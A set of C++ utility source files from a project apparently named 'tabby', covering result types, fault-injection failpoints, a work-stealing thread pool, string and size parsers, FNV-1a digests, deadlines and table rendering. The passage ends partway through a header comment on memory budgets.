#include <variant>

namespace tabby::util {

/// Error payload: a human-readable message plus an optional byte/line location.
struct Error {
  std::string message;
  std::size_t location = 0;

  std::string to_string() const {
    if (location == 0) return message;
    return message + " (at " + std::to_string(location) + ")";
  }
};

/// Result<T> holds either a value or an Error. Modeled on std::expected
/// (not yet available in this toolchain's standard library).
template <typename T>
class [[nodiscard]] Result {
 public:
  Result(T value) : data_(std::move(value)) {}           // NOLINT(google-explicit-constructor)
  Result(Error error) : data_(std::move(error)) {}       // NOLINT(google-explicit-constructor)

  bool ok() const { return std::holds_alternative<T>(data_); }
  explicit operator bool() const { return ok(); }

  /// Precondition: ok().
  T& value() {
    assert(ok());
    return std::get<T>(data_);
  }
  const T& value() const {
    assert(ok());
    return std::get<T>(data_);
  }

  /// Precondition: !ok().
  const Error& error() const {
    assert(!ok());
    return std::get<Error>(data_);
  }

  T value_or(T fallback) const {
    if (ok()) return std::get<T>(data_);
    return fallback;
  }

 private:
  std::variant<T, Error> data_;
};

/// Result<void> analogue.
class [[nodiscard]] Status {
 public:
  Status() = default;
  Status(Error error) : error_(std::move(error)) {}      // NOLINT(google-explicit-constructor)

  static Status ok_status() { return Status{}; }

  bool ok() const { return !error_.has_value(); }
  explicit operator bool() const { return ok(); }

  const Error& error() const {
    assert(!ok());
    return *error_;
  }

 private:
  std::optional<Error> error_;
};

}  // namespace tabby::util
