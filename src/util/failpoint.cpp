#include "util/failpoint.hpp"

#include <algorithm>
#include <cstdlib>
#include <map>
#include <mutex>

namespace tabby::util::failpoint {

namespace {

// The compiled-in site catalog. Adding a site = one poll() call at the
// fault seam plus one row here (and in docs/ROBUSTNESS.md); the chaos
// sweep picks it up automatically via catalog().
constexpr const char* kSites[] = {
    "cache.fragment.publish",  // fragment write-back after a decode miss
    "cache.publish.rename",    // the rename inside one atomic-publish attempt
    "cache.snapshot.publish",  // whole-classpath snapshot publish
    "cypher.eval",             // query evaluation entry (run_query)
    "cypher.plan",             // query planning (degrades to naive evaluation)
    "dist.dispatch",           // handing a shard to a worker (retriable, no kill)
    "dist.worker.crash",       // dispatched worker dies abruptly mid-shard
    "dist.worker.hang",        // dispatched worker goes silent (heartbeat miss)
    "fs.read",                 // any file read feeding the pipeline
    "graph.deserialize",       // graph store / snapshot blob decode
    "graph.freeze",            // building the frozen CSR snapshot
    "graph.index.rebuild",     // (re)creating label/property indexes
    "jar.decode",              // TJAR archive decode
    "pool.task",               // ThreadPool parallel_for task body
    "runtime.step",            // one interpreter step (verify VM infrastructure fault)
    "runtime.verify.crash",    // verification shard dies abruptly mid-chain
    "runtime.verify.hang",     // verification shard goes silent (heartbeat miss)
    "serve.request",           // daemon request dispatch (tabby serve)
};

struct Activation {
  int remaining = -1;  // -1 = unlimited
  std::uint64_t fired = 0;
};

struct Registry {
  std::mutex mutex;
  std::map<std::string, Activation> active;
  std::map<std::string, std::uint64_t> fired_history;  // survives deactivation
};

Registry& registry() {
  static Registry r;
  return r;
}

/// Reads the environment exactly once, before main-time polls: arms the
/// gate for TABBY_FAILPOINTS=1 and applies TABBY_FAILPOINT_ACTIVATE
/// ("site" or "site*N", ';'- or ','-separated).
bool arm_from_environment() {
  const char* armed = std::getenv("TABBY_FAILPOINTS");
  if (armed == nullptr || std::string(armed) != "1") return false;
  if (const char* spec = std::getenv("TABBY_FAILPOINT_ACTIVATE")) {
    std::string text(spec);
    std::size_t begin = 0;
    while (begin <= text.size()) {
      std::size_t end = text.find_first_of(";,", begin);
      if (end == std::string::npos) end = text.size();
      std::string entry = text.substr(begin, end - begin);
      begin = end + 1;
      if (entry.empty()) continue;
      int times = -1;
      if (std::size_t star = entry.rfind('*'); star != std::string::npos) {
        times = std::atoi(entry.c_str() + star + 1);
        entry.resize(star);
      }
      if (!entry.empty()) activate(entry, times);
    }
  }
  return true;
}

}  // namespace

namespace detail {

std::atomic<bool> g_armed{arm_from_environment()};

bool should_fire(const char* site) {
  Registry& r = registry();
  std::lock_guard<std::mutex> lock(r.mutex);
  auto it = r.active.find(site);
  if (it == r.active.end()) return false;
  Activation& a = it->second;
  if (a.remaining == 0) return false;
  if (a.remaining > 0) --a.remaining;
  ++a.fired;
  ++r.fired_history[site];
  return true;
}

}  // namespace detail

void arm() { detail::g_armed.store(true, std::memory_order_relaxed); }

void disarm() {
  detail::g_armed.store(false, std::memory_order_relaxed);
  Registry& r = registry();
  std::lock_guard<std::mutex> lock(r.mutex);
  r.active.clear();
  r.fired_history.clear();
}

bool armed() { return detail::g_armed.load(std::memory_order_relaxed); }

void activate(const std::string& site, int times) {
  Registry& r = registry();
  std::lock_guard<std::mutex> lock(r.mutex);
  r.active[site] = Activation{times, 0};
}

void deactivate(const std::string& site) {
  Registry& r = registry();
  std::lock_guard<std::mutex> lock(r.mutex);
  r.active.erase(site);
}

void deactivate_all() {
  Registry& r = registry();
  std::lock_guard<std::mutex> lock(r.mutex);
  r.active.clear();
}

std::uint64_t fired(const std::string& site) {
  Registry& r = registry();
  std::lock_guard<std::mutex> lock(r.mutex);
  auto it = r.fired_history.find(site);
  return it == r.fired_history.end() ? 0 : it->second;
}

std::vector<std::string> catalog() {
  return std::vector<std::string>(std::begin(kSites), std::end(kSites));
}

}  // namespace tabby::util::failpoint
