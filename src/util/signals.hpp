// Signal hygiene for socket/pipe writers. A peer that vanishes mid-write
// (a client killed between request and response, a SIGKILLed finder worker)
// raises SIGPIPE, whose default disposition kills the whole process — the
// opposite of what a fault-tolerant daemon or coordinator wants. Ignoring it
// process-wide turns the event into an EPIPE errno from write(2), which the
// I/O loops already treat as "connection gone".
#pragma once

#include <csignal>

namespace tabby::util {

/// Ignores SIGPIPE for the whole process. Idempotent and cheap; called by
/// the serve daemon, the protocol client, and the dist coordinator/workers
/// before their first socket write so no code path can be killed by a
/// vanished peer.
inline void ignore_sigpipe() { std::signal(SIGPIPE, SIG_IGN); }

}  // namespace tabby::util
