// Deterministic random number generation for corpus synthesis and property
// tests. All experiment corpora are seeded so every bench run regenerates the
// exact same workload; std::mt19937_64 would also work but SplitMix64 has a
// trivially portable state we can document in EXPERIMENTS.md.
#pragma once

#include <cstdint>
#include <string>
#include <vector>

namespace tabby::util {

/// SplitMix64 PRNG. Deterministic across platforms and standard-library
/// versions, unlike distribution adaptors in <random>.
class Rng {
 public:
  explicit Rng(std::uint64_t seed) : state_(seed) {}

  std::uint64_t next_u64() {
    std::uint64_t z = (state_ += 0x9E3779B97F4A7C15ULL);
    z = (z ^ (z >> 30)) * 0xBF58476D1CE4E5B9ULL;
    z = (z ^ (z >> 27)) * 0x94D049BB133111EBULL;
    return z ^ (z >> 31);
  }

  /// Uniform integer in [0, bound). Precondition: bound > 0.
  std::uint64_t next_below(std::uint64_t bound) { return next_u64() % bound; }

  /// Uniform integer in [lo, hi] inclusive. Precondition: lo <= hi.
  std::int64_t next_in(std::int64_t lo, std::int64_t hi) {
    return lo + static_cast<std::int64_t>(next_below(static_cast<std::uint64_t>(hi - lo + 1)));
  }

  /// Bernoulli draw with probability num/den.
  bool chance(std::uint64_t num, std::uint64_t den) { return next_below(den) < num; }

  double next_unit() { return static_cast<double>(next_u64() >> 11) * (1.0 / 9007199254740992.0); }

  /// Pick a uniformly random element. Precondition: !v.empty().
  template <typename T>
  const T& pick(const std::vector<T>& v) {
    return v[next_below(v.size())];
  }

  /// Lower-case identifier of the given length, first char alphabetic.
  std::string identifier(std::size_t length) {
    static constexpr char kAlpha[] = "abcdefghijklmnopqrstuvwxyz";
    std::string out;
    out.reserve(length);
    for (std::size_t i = 0; i < length; ++i) out.push_back(kAlpha[next_below(26)]);
    return out;
  }

 private:
  std::uint64_t state_;
};

}  // namespace tabby::util
