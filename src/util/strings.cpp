#include "util/strings.hpp"

#include <cctype>
#include <charconv>
#include <cstdint>
#include <cstdio>

namespace tabby::util {

std::vector<std::string> split(std::string_view text, char sep) {
  std::vector<std::string> out;
  std::size_t start = 0;
  while (true) {
    std::size_t pos = text.find(sep, start);
    if (pos == std::string_view::npos) {
      out.emplace_back(text.substr(start));
      return out;
    }
    out.emplace_back(text.substr(start, pos - start));
    start = pos + 1;
  }
}

std::string join(const std::vector<std::string>& parts, std::string_view sep) {
  std::string out;
  for (std::size_t i = 0; i < parts.size(); ++i) {
    if (i != 0) out.append(sep);
    out.append(parts[i]);
  }
  return out;
}

bool starts_with(std::string_view text, std::string_view prefix) {
  return text.size() >= prefix.size() && text.substr(0, prefix.size()) == prefix;
}

bool ends_with(std::string_view text, std::string_view suffix) {
  return text.size() >= suffix.size() && text.substr(text.size() - suffix.size()) == suffix;
}

bool contains(std::string_view text, std::string_view needle) {
  return text.find(needle) != std::string_view::npos;
}

std::string_view trim(std::string_view text) {
  std::size_t begin = 0;
  std::size_t end = text.size();
  while (begin < end && std::isspace(static_cast<unsigned char>(text[begin]))) ++begin;
  while (end > begin && std::isspace(static_cast<unsigned char>(text[end - 1]))) --end;
  return text.substr(begin, end - begin);
}

std::string_view simple_name(std::string_view qualified) {
  std::size_t pos = qualified.rfind('.');
  if (pos == std::string_view::npos) return qualified;
  return qualified.substr(pos + 1);
}

std::string_view package_of(std::string_view qualified) {
  std::size_t pos = qualified.rfind('.');
  if (pos == std::string_view::npos) return {};
  return qualified.substr(0, pos);
}

std::string format_double(double value, int decimals) {
  char buf[64];
  std::snprintf(buf, sizeof buf, "%.*f", decimals, value);
  return buf;
}

Result<int> parse_int(std::string_view text) {
  int value = 0;
  const char* first = text.data();
  const char* last = text.data() + text.size();
  std::from_chars_result parsed = std::from_chars(first, last, value, 10);
  if (parsed.ec == std::errc::result_out_of_range) {
    return Error{"integer out of range: '" + std::string(text) + "'"};
  }
  if (parsed.ec != std::errc{} || parsed.ptr != last) {
    return Error{"not an integer: '" + std::string(text) + "'"};
  }
  return value;
}

Result<std::int64_t> parse_duration_ms(std::string_view text) {
  struct Unit {
    std::string_view suffix;
    std::int64_t millis;
  };
  // Longest suffix first so "ms" is not read as "m".
  constexpr Unit kUnits[] = {{"ms", 1}, {"s", 1000}, {"m", 60'000}, {"h", 3'600'000}};
  for (const Unit& unit : kUnits) {
    if (!ends_with(text, unit.suffix)) continue;
    std::string_view digits = text.substr(0, text.size() - unit.suffix.size());
    std::int64_t value = 0;
    const char* first = digits.data();
    const char* last = digits.data() + digits.size();
    std::from_chars_result parsed = std::from_chars(first, last, value, 10);
    if (parsed.ec != std::errc{} || parsed.ptr != last || digits.empty() || value < 0) break;
    if (value > INT64_MAX / unit.millis) {
      return Error{"duration out of range: '" + std::string(text) + "'"};
    }
    return value * unit.millis;
  }
  return Error{"not a duration (expected e.g. 250ms, 30s, 2m, 1h): '" + std::string(text) + "'"};
}

Result<std::uint64_t> parse_size_bytes(std::string_view text) {
  std::uint64_t scale = 1;
  if (!text.empty()) {
    switch (text.back()) {
      case 'k': case 'K': scale = 1024ull; break;
      case 'm': case 'M': scale = 1024ull * 1024; break;
      case 'g': case 'G': scale = 1024ull * 1024 * 1024; break;
      default: break;
    }
  }
  std::string_view digits = scale == 1 ? text : text.substr(0, text.size() - 1);
  std::uint64_t value = 0;
  const char* first = digits.data();
  const char* last = digits.data() + digits.size();
  std::from_chars_result parsed = std::from_chars(first, last, value, 10);
  if (parsed.ec != std::errc{} || parsed.ptr != last || digits.empty()) {
    return Error{"not a byte size (expected e.g. 65536, 512k, 64m, 2g): '" + std::string(text) +
                 "'"};
  }
  if (value > UINT64_MAX / scale) {
    return Error{"byte size out of range: '" + std::string(text) + "'"};
  }
  return value * scale;
}

}  // namespace tabby::util
