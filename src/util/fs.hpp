// Whole-file IO shared by the archive reader and the analysis cache. Kept
// in util so the `fs.read` failpoint covers every byte the pipeline ingests
// from disk through one seam (see docs/ROBUSTNESS.md).
#pragma once

#include <cstddef>
#include <filesystem>
#include <fstream>
#include <vector>

#include "util/failpoint.hpp"
#include "util/result.hpp"

namespace tabby::util {

/// Reads a whole file. Errors name the path; a fired `fs.read` failpoint
/// reports like an IO error mid-read.
inline Result<std::vector<std::byte>> read_file(const std::filesystem::path& path) {
  if (failpoint::poll("fs.read")) {
    return Error{"failpoint: injected read failure: " + path.string()};
  }
  std::ifstream in(path, std::ios::binary | std::ios::ate);
  if (!in) return Error{"cannot open for read: " + path.string()};
  std::streamsize size = in.tellg();
  in.seekg(0);
  std::vector<std::byte> bytes(static_cast<std::size_t>(size));
  in.read(reinterpret_cast<char*>(bytes.data()), size);
  if (!in) return Error{"read failed: " + path.string()};
  return bytes;
}

}  // namespace tabby::util
