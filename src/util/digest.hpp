// Content digests for the incremental analysis cache. FNV-1a (64-bit) over
// raw bytes: fast, dependency-free, and — because every step (xor with a
// byte, multiply by an odd prime) is a bijection on the 64-bit state — any
// single-byte change to an input of the same length is *guaranteed* to
// change the digest. That makes it a sound cache key for "did this archive
// change", which only ever compares contents of controlled provenance; it is
// not a cryptographic hash and offers no collision resistance against an
// adversary crafting inputs.
#pragma once

#include <cstddef>
#include <cstdint>
#include <span>
#include <string>
#include <string_view>

namespace tabby::util {

/// Streaming FNV-1a 64-bit hasher. Feed bytes/values in a fixed order; the
/// digest is a pure function of the fed byte sequence (job counts, thread
/// interleavings and wall clocks can never influence it).
class Fnv1a {
 public:
  static constexpr std::uint64_t kOffsetBasis = 0xcbf29ce484222325ULL;
  static constexpr std::uint64_t kPrime = 0x100000001b3ULL;

  void update_byte(std::uint8_t b) {
    state_ ^= b;
    state_ *= kPrime;
  }
  void update(std::span<const std::byte> data) {
    for (std::byte b : data) update_byte(static_cast<std::uint8_t>(b));
  }
  void update(std::string_view s) {
    for (char c : s) update_byte(static_cast<std::uint8_t>(c));
  }
  /// Length-prefixed string: distinguishes ("ab","c") from ("a","bc").
  void update_sized(std::string_view s) {
    update_u64(s.size());
    update(s);
  }
  void update_u64(std::uint64_t v) {
    for (int i = 0; i < 8; ++i) update_byte(static_cast<std::uint8_t>(v >> (i * 8)));
  }
  void update_bool(bool b) { update_byte(b ? 1 : 0); }

  std::uint64_t digest() const { return state_; }

 private:
  std::uint64_t state_ = kOffsetBasis;
};

inline std::uint64_t fnv1a(std::span<const std::byte> data) {
  Fnv1a h;
  h.update(data);
  return h.digest();
}

inline std::uint64_t fnv1a(std::string_view s) {
  Fnv1a h;
  h.update(s);
  return h.digest();
}

/// Fixed-width lowercase hex rendering, the cache's file-name alphabet.
inline std::string digest_hex(std::uint64_t digest) {
  static constexpr char kHex[] = "0123456789abcdef";
  std::string out(16, '0');
  for (int i = 15; i >= 0; --i) {
    out[static_cast<std::size_t>(i)] = kHex[digest & 0xF];
    digest >>= 4;
  }
  return out;
}

}  // namespace tabby::util
