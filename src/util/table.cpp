#include "util/table.hpp"

#include <algorithm>

namespace tabby::util {

void Table::add_row(std::vector<std::string> row) {
  row.resize(header_.size());
  rows_.push_back(std::move(row));
}

std::string Table::render() const {
  std::vector<std::size_t> widths(header_.size());
  for (std::size_t c = 0; c < header_.size(); ++c) widths[c] = header_[c].size();
  for (const auto& row : rows_) {
    for (std::size_t c = 0; c < row.size(); ++c) widths[c] = std::max(widths[c], row[c].size());
  }

  auto render_row = [&](const std::vector<std::string>& row) {
    std::string line = "|";
    for (std::size_t c = 0; c < widths.size(); ++c) {
      const std::string& cell = c < row.size() ? row[c] : std::string{};
      line += " " + cell + std::string(widths[c] - cell.size(), ' ') + " |";
    }
    return line + "\n";
  };

  std::string sep = "|";
  for (std::size_t width : widths) sep += std::string(width + 2, '-') + "|";
  sep += "\n";

  std::string out = render_row(header_);
  out += sep;
  for (const auto& row : rows_) out += render_row(row);
  return out;
}

}  // namespace tabby::util
