// Cooperative time budgets and cancellation for the fail-soft pipeline.
// Nothing here preempts anything: a Deadline is a value that long-running
// loops poll at unit boundaries (per archive, per sink, every few traversal
// expansions), and a CancelToken is a flag another thread can raise. Work
// that observes an expired deadline finishes (or abandons) its current unit
// and reports itself `partial` instead of stalling the run — see
// docs/ROBUSTNESS.md for the plumbing map.
#pragma once

#include <atomic>
#include <chrono>
#include <optional>

namespace tabby::util {

/// A raisable "stop soon" flag, shareable across threads. Raising it is a
/// request, not an interrupt: loops notice it at their next poll.
class CancelToken {
 public:
  void cancel() { cancelled_.store(true, std::memory_order_relaxed); }
  bool cancelled() const { return cancelled_.load(std::memory_order_relaxed); }

 private:
  std::atomic<bool> cancelled_{false};
};

/// A wall-clock budget, optionally combined with a CancelToken. The default
/// constructed Deadline is unlimited and never expires, so plumbing it
/// through a stage costs nothing when no budget was requested. Copyable;
/// the token (when bound) is borrowed and must outlive every copy.
class Deadline {
 public:
  using Clock = std::chrono::steady_clock;

  Deadline() = default;

  /// A deadline `budget` from now. Non-positive budgets are already expired.
  static Deadline after(std::chrono::milliseconds budget) {
    Deadline d;
    d.at_ = Clock::now() + budget;
    return d;
  }

  /// The unlimited deadline, spelled out.
  static Deadline never() { return Deadline{}; }

  /// Attaches a cancel token: the deadline also reads as expired once the
  /// token is raised. Returns *this for chaining.
  Deadline& bind(const CancelToken* token) {
    cancel_ = token;
    return *this;
  }

  bool unlimited() const { return !at_.has_value() && cancel_ == nullptr; }

  bool expired() const {
    if (cancel_ != nullptr && cancel_->cancelled()) return true;
    return at_.has_value() && Clock::now() >= *at_;
  }

  /// Time left, floored at zero; nullopt when no time bound is set.
  std::optional<std::chrono::milliseconds> remaining() const {
    if (!at_.has_value()) return std::nullopt;
    auto left = std::chrono::duration_cast<std::chrono::milliseconds>(*at_ - Clock::now());
    return left.count() < 0 ? std::chrono::milliseconds{0} : left;
  }

  /// The tighter of two deadlines (used to fold --deadline with a
  /// --phase-budget). Keeps whichever cancel token is bound, preferring
  /// this one's.
  Deadline tightened(const Deadline& other) const {
    Deadline d = *this;
    if (!d.at_.has_value() || (other.at_.has_value() && *other.at_ < *d.at_)) d.at_ = other.at_;
    if (d.cancel_ == nullptr) d.cancel_ = other.cancel_;
    return d;
  }

 private:
  std::optional<Clock::time_point> at_;
  const CancelToken* cancel_ = nullptr;
};

}  // namespace tabby::util
