// The parallel execution substrate for the pipeline. Two pieces:
//
//   - Executor: the minimal interface the analysis/cpg/finder stages program
//     against. `parallel_for(n, fn)` runs fn(0..n-1) and returns when every
//     index finished. A null Executor* (or SerialExecutor) means "run inline
//     in index order" — the `--jobs 1` path, byte-identical to the historical
//     single-threaded pipeline.
//   - ThreadPool: a work-stealing implementation. Each worker owns a deque;
//     it pops its own work LIFO (cache-warm) and steals FIFO from the other
//     workers when dry (the classic Chase–Lev discipline, here with a plain
//     mutex per deque — the pipeline's tasks are coarse enough that lock
//     traffic is noise).
//
// Every parallel stage in the pipeline is written as: compute immutable
// per-item results with parallel_for, then publish/instantiate them in a
// deterministic serial order. The Executor therefore never needs futures or
// task dependencies; parallel_for's barrier is the only synchronisation
// primitive the callers use. See docs/CONCURRENCY.md.
#pragma once

#include <atomic>
#include <condition_variable>
#include <cstddef>
#include <deque>
#include <functional>
#include <memory>
#include <mutex>
#include <thread>
#include <vector>

namespace tabby::util {

/// Abstract parallel-for provider. Stages accept `Executor*` and treat
/// nullptr as "serial"; use `run_indexed` for the common call pattern.
class Executor {
 public:
  virtual ~Executor() = default;

  /// Number of threads that may run tasks concurrently (>= 1).
  virtual unsigned concurrency() const = 0;

  /// Runs fn(i) for every i in [0, n) and returns once all completed.
  /// Index-to-thread assignment is unspecified; fn must not assume order.
  /// Exceptions thrown by fn are rethrown (one of them) in the caller.
  virtual void parallel_for(std::size_t n, const std::function<void(std::size_t)>& fn) = 0;
};

/// Runs a loop through `executor` when present, inline (in index order)
/// otherwise. The universal "maybe parallel" entry point.
inline void run_indexed(Executor* executor, std::size_t n,
                        const std::function<void(std::size_t)>& fn) {
  if (executor != nullptr && executor->concurrency() > 1 && n > 1) {
    executor->parallel_for(n, fn);
    return;
  }
  for (std::size_t i = 0; i < n; ++i) fn(i);
}

/// Inline executor: parallel_for degenerates to an ordered serial loop.
class SerialExecutor final : public Executor {
 public:
  unsigned concurrency() const override { return 1; }
  void parallel_for(std::size_t n, const std::function<void(std::size_t)>& fn) override {
    for (std::size_t i = 0; i < n; ++i) fn(i);
  }
};

/// Work-stealing thread pool.
class ThreadPool final : public Executor {
 public:
  /// Spawns `threads` workers; 0 means default_jobs().
  explicit ThreadPool(unsigned threads = 0);
  ~ThreadPool() override;

  ThreadPool(const ThreadPool&) = delete;
  ThreadPool& operator=(const ThreadPool&) = delete;

  unsigned concurrency() const override { return static_cast<unsigned>(workers_.size()); }

  /// Enqueues one fire-and-forget task (round-robin across worker deques,
  /// stolen freely afterwards). The task must not throw.
  void submit(std::function<void()> task);

  /// Blocks until every submitted task (including tasks submitted by tasks)
  /// has finished.
  void wait_idle();

  /// Chunked parallel loop with a completion barrier. Called from a pool
  /// worker thread it runs inline (serially) instead of deadlocking on its
  /// own barrier — nested parallelism degrades gracefully.
  void parallel_for(std::size_t n, const std::function<void(std::size_t)>& fn) override;

  /// The `--jobs` default: hardware_concurrency, floored at 1.
  static unsigned default_jobs();

  /// Total tasks executed since construction (telemetry for tests/benches).
  std::size_t tasks_executed() const { return tasks_executed_.load(std::memory_order_relaxed); }
  /// How many of those were taken from another worker's deque.
  std::size_t tasks_stolen() const { return tasks_stolen_.load(std::memory_order_relaxed); }

 private:
  struct Worker {
    std::mutex mutex;
    std::deque<std::function<void()>> tasks;
  };

  void worker_loop(unsigned self);
  /// Pops own-deque back, else steals another deque's front.
  bool take_task(unsigned self, std::function<void()>& out);
  bool queues_empty() const;

  std::vector<std::unique_ptr<Worker>> workers_;
  std::vector<std::thread> threads_;

  mutable std::mutex wake_mutex_;
  std::condition_variable wake_cv_;  // workers sleep here when all deques dry
  std::condition_variable idle_cv_;  // wait_idle sleeps here
  std::atomic<std::size_t> pending_{0};
  std::atomic<std::size_t> next_queue_{0};
  std::atomic<std::size_t> tasks_executed_{0};
  std::atomic<std::size_t> tasks_stolen_{0};
  bool stop_ = false;  // guarded by wake_mutex_
};

}  // namespace tabby::util
