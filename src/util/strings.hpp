// Small string utilities shared across the parser, the Cypher front end and
// the report renderers.
#pragma once

#include <string>
#include <string_view>
#include <vector>

#include "util/result.hpp"

namespace tabby::util {

/// Split on a single-character separator; empty fields are preserved.
std::vector<std::string> split(std::string_view text, char sep);

/// Join with a separator string.
std::string join(const std::vector<std::string>& parts, std::string_view sep);

bool starts_with(std::string_view text, std::string_view prefix);
bool ends_with(std::string_view text, std::string_view suffix);
bool contains(std::string_view text, std::string_view needle);

/// Strip ASCII whitespace from both ends.
std::string_view trim(std::string_view text);

/// The trailing simple name of a dotted qualified name ("a.b.C" -> "C").
std::string_view simple_name(std::string_view qualified);

/// The package of a dotted qualified name ("a.b.C" -> "a.b", "C" -> "").
std::string_view package_of(std::string_view qualified);

/// Render a double with the given number of decimals (locale-independent).
std::string format_double(double value, int decimals);

/// Strict base-10 integer parse: the whole token must be a number (an
/// optional minus and digits — "12abc", "", "+5", "0x1f" and out-of-range
/// values are all errors). Unlike std::atoi, failure is reported, not
/// folded to 0.
Result<int> parse_int(std::string_view text);

/// Duration parse for CLI budgets, returned in milliseconds. The token is a
/// positive integer with a mandatory unit suffix: "250ms", "30s", "2m",
/// "1h". Everything else ("30", "1.5s", "-5s", "30 s") is an error — a
/// budget silently read in the wrong unit is worse than a rejected flag.
Result<std::int64_t> parse_duration_ms(std::string_view text);

/// Byte-size parse for CLI memory budgets. The token is a positive integer
/// with an optional binary-unit suffix: "65536" (bytes), "512k", "64m",
/// "2g" (uppercase accepted). Everything else ("1.5g", "-1m", "64mb",
/// "64 m") is an error, same philosophy as parse_duration_ms.
Result<std::uint64_t> parse_size_bytes(std::string_view text);

}  // namespace tabby::util
