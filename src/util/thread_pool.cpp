#include "util/thread_pool.hpp"

#include <algorithm>
#include <exception>
#include <stdexcept>

#include "obs/obs.hpp"
#include "util/failpoint.hpp"

namespace tabby::util {

namespace {

/// Set while a pool worker is running a task; parallel_for uses it to detect
/// nested calls (which run inline instead of waiting on their own workers).
thread_local bool t_inside_pool_worker = false;

}  // namespace

unsigned ThreadPool::default_jobs() {
  unsigned hw = std::thread::hardware_concurrency();
  return hw == 0 ? 1 : hw;
}

ThreadPool::ThreadPool(unsigned threads) {
  unsigned count = threads == 0 ? default_jobs() : threads;
  count = std::max(1u, count);
  workers_.reserve(count);
  for (unsigned i = 0; i < count; ++i) workers_.push_back(std::make_unique<Worker>());
  threads_.reserve(count);
  for (unsigned i = 0; i < count; ++i) {
    threads_.emplace_back([this, i] { worker_loop(i); });
  }
}

ThreadPool::~ThreadPool() {
  wait_idle();
  {
    std::lock_guard<std::mutex> lock(wake_mutex_);
    stop_ = true;
  }
  wake_cv_.notify_all();
  for (std::thread& t : threads_) t.join();
}

void ThreadPool::submit(std::function<void()> task) {
  pending_.fetch_add(1, std::memory_order_relaxed);
  std::size_t slot = next_queue_.fetch_add(1, std::memory_order_relaxed) % workers_.size();
  {
    std::lock_guard<std::mutex> lock(workers_[slot]->mutex);
    workers_[slot]->tasks.push_back(std::move(task));
  }
  // Pairing the notify with the wake mutex closes the "checked empty, then
  // slept" race in worker_loop.
  {
    std::lock_guard<std::mutex> lock(wake_mutex_);
  }
  wake_cv_.notify_one();
}

bool ThreadPool::queues_empty() const {
  for (const auto& w : workers_) {
    std::lock_guard<std::mutex> lock(w->mutex);
    if (!w->tasks.empty()) return false;
  }
  return true;
}

bool ThreadPool::take_task(unsigned self, std::function<void()>& out) {
  {
    Worker& own = *workers_[self];
    std::lock_guard<std::mutex> lock(own.mutex);
    if (!own.tasks.empty()) {
      out = std::move(own.tasks.back());  // LIFO on the owner side
      own.tasks.pop_back();
      return true;
    }
  }
  for (std::size_t offset = 1; offset < workers_.size(); ++offset) {
    Worker& victim = *workers_[(self + offset) % workers_.size()];
    std::lock_guard<std::mutex> lock(victim.mutex);
    if (!victim.tasks.empty()) {
      out = std::move(victim.tasks.front());  // FIFO on the thief side
      victim.tasks.pop_front();
      tasks_stolen_.fetch_add(1, std::memory_order_relaxed);
      return true;
    }
  }
  return false;
}

void ThreadPool::worker_loop(unsigned self) {
  t_inside_pool_worker = true;
  // One trace track per worker: spans recorded on this thread land on the
  // "worker-N" track in the Chrome trace export.
  obs::set_thread_name("worker-" + std::to_string(self));
  std::function<void()> task;
  while (true) {
    if (take_task(self, task)) {
      task();
      task = nullptr;
      tasks_executed_.fetch_add(1, std::memory_order_relaxed);
      if (pending_.fetch_sub(1, std::memory_order_acq_rel) == 1) {
        std::lock_guard<std::mutex> lock(wake_mutex_);
        idle_cv_.notify_all();
      }
      continue;
    }
    std::unique_lock<std::mutex> lock(wake_mutex_);
    if (stop_) return;
    wake_cv_.wait(lock, [this] { return stop_ || !queues_empty(); });
    if (stop_) return;
  }
}

void ThreadPool::wait_idle() {
  std::unique_lock<std::mutex> lock(wake_mutex_);
  idle_cv_.wait(lock, [this] { return pending_.load(std::memory_order_acquire) == 0; });
}

void ThreadPool::parallel_for(std::size_t n, const std::function<void(std::size_t)>& fn) {
  if (n == 0) return;
  if (t_inside_pool_worker || workers_.size() == 1 || n == 1) {
    for (std::size_t i = 0; i < n; ++i) fn(i);
    return;
  }

  // Chunk so each worker sees several chunks (stealing can rebalance) while
  // keeping per-task overhead negligible.
  std::size_t chunks = std::min<std::size_t>(n, workers_.size() * 4);
  std::size_t grain = (n + chunks - 1) / chunks;
  chunks = (n + grain - 1) / grain;

  struct Batch {
    std::atomic<std::size_t> remaining;
    std::mutex mutex;
    std::condition_variable done;
    std::exception_ptr error;
  };
  auto batch = std::make_shared<Batch>();
  batch->remaining.store(chunks, std::memory_order_relaxed);

  for (std::size_t c = 0; c < chunks; ++c) {
    std::size_t first = c * grain;
    std::size_t last = std::min(n, first + grain);
    submit([batch, first, last, &fn] {
      try {
        // Chaos seam: a lost/crashed worker task surfaces exactly like a
        // throwing fn — rethrown at the parallel_for caller, never swallowed.
        if (failpoint::poll("pool.task")) {
          throw std::runtime_error("failpoint: injected worker task failure");
        }
        for (std::size_t i = first; i < last; ++i) fn(i);
      } catch (...) {
        std::lock_guard<std::mutex> lock(batch->mutex);
        if (!batch->error) batch->error = std::current_exception();
      }
      if (batch->remaining.fetch_sub(1, std::memory_order_acq_rel) == 1) {
        std::lock_guard<std::mutex> lock(batch->mutex);
        batch->done.notify_all();
      }
    });
  }

  std::unique_lock<std::mutex> lock(batch->mutex);
  batch->done.wait(lock, [&] { return batch->remaining.load(std::memory_order_acquire) == 0; });
  if (batch->error) std::rethrow_exception(batch->error);
}

}  // namespace tabby::util
