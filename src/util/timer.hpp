// Wall-clock stopwatch used by the experiment harness to report build/search
// times in the same units the paper's tables use.
#pragma once

#include <chrono>

namespace tabby::util {

class Stopwatch {
 public:
  Stopwatch() : start_(Clock::now()) {}

  void reset() { start_ = Clock::now(); }

  double elapsed_seconds() const {
    return std::chrono::duration<double>(Clock::now() - start_).count();
  }

  double elapsed_millis() const { return elapsed_seconds() * 1e3; }
  double elapsed_minutes() const { return elapsed_seconds() / 60.0; }

 private:
  using Clock = std::chrono::steady_clock;
  Clock::time_point start_;
};

}  // namespace tabby::util
