// ASCII table renderer: the bench binaries print rows shaped exactly like the
// paper's tables so the reproduction can be eyeballed against the original.
#pragma once

#include <string>
#include <vector>

namespace tabby::util {

class Table {
 public:
  explicit Table(std::vector<std::string> header) : header_(std::move(header)) {}

  void add_row(std::vector<std::string> row);

  /// Render with column widths fitted to content, pipe-separated.
  std::string render() const;

 private:
  std::vector<std::string> header_;
  std::vector<std::vector<std::string>> rows_;
};

}  // namespace tabby::util
