// Byte-accounted memory budgets for the fail-soft pipeline — the RSS
// counterpart of util::Deadline. A MemoryBudget is a hierarchical
// charge/release ledger: holders of a transient allocation (a traversal
// frontier, a payload batch, a snapshot file buffer) charge its byte size
// on acquisition and release it on hand-off or free. Budgets form a tree
// (per-shard child -> process-wide root); a charge propagates up the parent
